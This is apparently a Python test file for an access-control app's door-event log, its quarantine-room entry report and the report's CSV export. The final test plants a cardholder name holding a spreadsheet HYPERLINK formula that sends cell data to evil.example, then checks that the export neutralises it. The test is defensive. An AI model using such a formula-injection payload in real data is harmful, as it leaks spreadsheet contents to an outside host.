"""The access log with its filters and pages, and the quarantine-room report with its CSV."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

from mailwarden.access import services
from mailwarden.access.views import log as log_views
from mailwarden.core.roles import Role
from tests.factories import ADMIN

from .conftest import badge, event, ingest


def logged(body: str) -> list[str]:
    return re.findall(r'<tr data-event="([0-9a-f-]+)"', body)


def test_the_log_filters_by_result_door_cardholder_and_day(as_role, mailroom, frozen_clock):
    m = mailroom
    now = frozen_clock()  # Monday 2 March 2026, 09:00 in London
    yesterday = now - timedelta(days=1)
    batch = [
        badge(m, yesterday, m.alice, m.alice_card, reader="q-in", door="quarantine"),
        badge(m, now - timedelta(minutes=5), m.bob, m.bob_card),
        badge(
            m, now - timedelta(minutes=4), m.bob, m.bob_card, granted=False, reason="anti_passback"
        ),
        event("door.event", now - timedelta(minutes=3), door_id="dock", kind="forced_open"),
    ]
    ingest(m, *batch)
    keys = [item["key"] for item in batch]
    auditor = as_role(Role.AUDITOR)
    everything = auditor.get("/access/log/").content.decode()
    assert logged(everything) == keys[::-1]  # newest first
    assert "Refused: anti-passback" in everything and "Door forced open" in everything
    assert logged(auditor.get("/access/log/?result=denied").content.decode()) == [keys[2]]
    granted = auditor.get("/access/log/?result=granted").content.decode()
    assert logged(granted) == [keys[1], keys[0]]
    by_door = auditor.get(f"/access/log/?door={m.quarantine.pk}").content.decode()
    assert logged(by_door) == [keys[0]]
    by_name = auditor.get("/access/log/?cardholder=baker").content.decode()
    assert logged(by_name) == [keys[2], keys[1]]
    one_day = auditor.get("/access/log/?site=hq&since=2026-03-01&until=2026-03-01").content.decode()
    assert logged(one_day) == [keys[0]]
    # Times are shown in the site's time, as the people there read a clock.
    assert "09:00:00" in one_day


def test_a_bad_range_is_refused_and_shows_no_rows(as_role, mailroom, frozen_clock):
    ingest(mailroom, badge(mailroom, frozen_clock(), mailroom.bob, mailroom.bob_card))
    response = as_role(Role.AUDITOR).get("/access/log/?since=2026-03-05&until=2026-03-01")
    assert response.status_code == 400
    body = response.content.decode()
    assert "must be on or after the first day" in body and logged(body) == []


def test_the_log_pages_newest_first(as_role, mailroom, frozen_clock, monkeypatch):
    monkeypatch.setattr(log_views, "PAGE_SIZE", 3)
    start = frozen_clock() - timedelta(hours=1)
    batch = [
        event(
            "reader.status",
            start + timedelta(minutes=i),
            reader_id="q-in",
            online=bool(i % 2),
            secure=True,
        )
        for i in range(7)
    ]
    ingest(mailroom, *batch)
    keys = [item["key"] for item in batch][::-1]
    client = as_role(Role.SECURITY_OPERATOR)
    first = client.get("/access/log/?site=hq").content.decode()
    assert logged(first) == keys[:3] and "page=2" in first
    third = client.get("/access/log/?site=hq&page=3").content.decode()
    assert logged(third) == keys[6:] and "Older" not in third
    # HTMX asks for the rows alone.
    partial = client.get("/access/log/?site=hq&page=2", headers={"HX-Request": "true"})
    assert partial.content.decode().lstrip().startswith('<section id="log-rows"')
    assert logged(partial.content.decode()) == keys[3:6]


def test_the_report_lists_who_entered_the_quarantine_room_with_a_csv(
    as_role, mailroom, frozen_clock
):
    m = mailroom
    at = datetime(2026, 3, 1, 15, 30, tzinfo=UTC)
    ingest(
        m,
        badge(
            m,
            at,
            m.alice,
            m.alice_card,
            reader="q-in",
            door="quarantine",
            reason="granted_two_person",
            companion=m.bob,
        ),
        # Leaving, and entering another room, are not entries into quarantine.
        badge(
            m, at + timedelta(minutes=5), m.alice, m.alice_card, reader="q-out", door="quarantine"
        ),
        badge(m, at + timedelta(minutes=6), m.bob, m.bob_card),
    )
    client = as_role(Role.AUDITOR)
    page = client.get("/access/report/?since=2026-03-01&until=2026-03-01").content.decode()
    rows = re.findall(r'<tr data-entry="[^"]+">(.*?)</tr>', page, re.S)
    assert len(rows) == 2  # both people of a two-person entry
    assert "Alice" in rows[0] and "Bob Baker" in rows[0]
    assert "15:30:00" in page  # GMT in London on 1 March
    assert "<strong>2</strong> entries by <strong>2</strong> people" in page
    assert 'href="/access/report.csv?since=2026-03-01&amp;until=2026-03-01"' in page
    other_day = client.get("/access/report/?since=2026-03-02&until=2026-03-02").content.decode()
    assert "Nobody entered a quarantine room" in other_day

    response = client.get("/access/report.csv?since=2026-03-01&until=2026-03-01")
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="quarantine-entries-20260301-20260301.csv"' in response["Content-Disposition"]
    table = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["person"], r["with"], r["door"], r["time_utc"]) for r in table] == [
        (m.alice.name, "Bob Baker", "Quarantine room", "2026-03-01T15:30:00+00:00"),
        ("Bob Baker", m.alice.name, "Quarantine room", "2026-03-01T15:30:00+00:00"),
    ]


def test_the_report_defaults_to_the_last_30_days(as_role, mailroom, frozen_clock):
    m = mailroom
    ingest(
        m,
        badge(
            m,
            frozen_clock() - timedelta(days=31),
            m.alice,
            m.alice_card,
            reader="q-in",
            door="quarantine",
        ),
    )
    page = as_role(Role.SECURITY_MANAGER).get("/access/report/").content.decode()
    assert "Nobody entered a quarantine room" in page
    assert 'value="2026-01-31"' in page and 'value="2026-03-02"' in page


def test_the_csv_cannot_run_a_name_as_a_formula(as_role, mailroom, frozen_clock):
    m = mailroom
    # The old check looked at the first character only: a leading quote walked past it.
    sneaky = '"=HYPERLINK("http://evil.example/?"&A1,"Alice")'
    services.credentials.update_cardholder(ADMIN, m.alice.pk, name=sneaky, kind=m.alice.kind)
    at = datetime(2026, 3, 1, 15, 30, tzinfo=UTC)
    ingest(m, badge(m, at, m.alice, m.alice_card, reader="q-in", door="quarantine"))
    client = as_role(Role.AUDITOR)
    response = client.get("/access/report.csv?since=2026-03-01&until=2026-03-01")
    text = response.content.decode()
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["person"] == "'" + sneaky
    assert text.splitlines()[0].startswith('"')  # every cell quoted
